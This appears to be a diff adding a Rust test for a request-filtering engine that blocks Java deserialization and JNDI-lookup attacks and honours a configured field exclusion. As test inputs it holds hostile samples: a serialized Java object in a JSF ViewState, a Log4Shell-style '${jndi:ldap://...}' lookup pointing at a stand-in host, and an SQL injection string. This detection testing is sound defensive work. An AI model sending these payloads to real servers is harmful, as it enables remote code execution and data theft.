@@ -590,3 +590,35 @@ fn json_inside_strings_counts_toward_the_depth_cap() {
     assert_eq!(all.len(), 1);
     assert_eq!(all[0].raw, b"' or 1=1 --");
 }
+
+#[test]
+fn java_runs_on_every_kind_of_field_and_the_documented_jsf_exclusion_holds() {
+    let state = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg";
+    let form = format!("javax.faces.ViewState={state}&q=1");
+    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/x-www-form-urlencoded")];
+    let plain = engine("{}");
+    let out = plain.evaluate(&input("/faces/page.xhtml", h, Some(&form)));
+    assert_eq!(out.verdict, Verdict::Block);
+    assert!(out
+        .score
+        .findings
+        .iter()
+        .any(|f| f.detector == Detector::Java && f.field == "body.javax.faces.ViewState"));
+    let excluded = engine(
+        r#"{"exclusions": [{"fields": ["body.javax.faces.ViewState"], "detectors": ["java"]}]}"#,
+    );
+    let out = excluded.evaluate(&input("/faces/page.xhtml", h, Some(&form)));
+    assert_eq!(out.verdict, Verdict::Pass, "{:?}", out.score);
+    // The path and a header are read too.
+    let lookup = "${jndi:ldap://x.example/a}";
+    let ua: &[(&[u8], &[u8])] = &[(b"user-agent", lookup.as_bytes())];
+    assert_eq!(
+        plain.evaluate(&input("/", ua, None)).verdict,
+        Verdict::Block
+    );
+    let path = "/a/%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D";
+    assert_eq!(
+        plain.evaluate(&input(path, &[], None)).verdict,
+        Verdict::Block
+    );
+}
